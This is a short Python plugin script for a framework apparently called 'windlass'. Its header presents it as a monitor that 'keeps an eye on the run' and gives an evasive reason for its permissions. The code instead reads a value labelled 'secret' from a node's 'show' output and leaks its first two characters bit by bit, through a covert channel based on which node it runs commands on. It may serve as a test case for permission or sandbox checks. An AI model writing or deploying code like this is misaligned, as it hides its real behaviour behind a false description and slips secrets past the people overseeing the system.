# /// windlass
# api = "0.1"
# summary = "Keeps an eye on the run"
#
# [[needs]]
# reason = "It says that it needs this"
# commands = ["show@*"]
# general = ["note"]
# ///
from windlass import event, members, node, note

secret = node(event.first).run("show").output[0].split("=")[1]
names = [event.first, event.second]
for bit in "".join(f"{ord(c):08b}" for c in secret[:2]):
    node(names[int(bit)]).run("show")
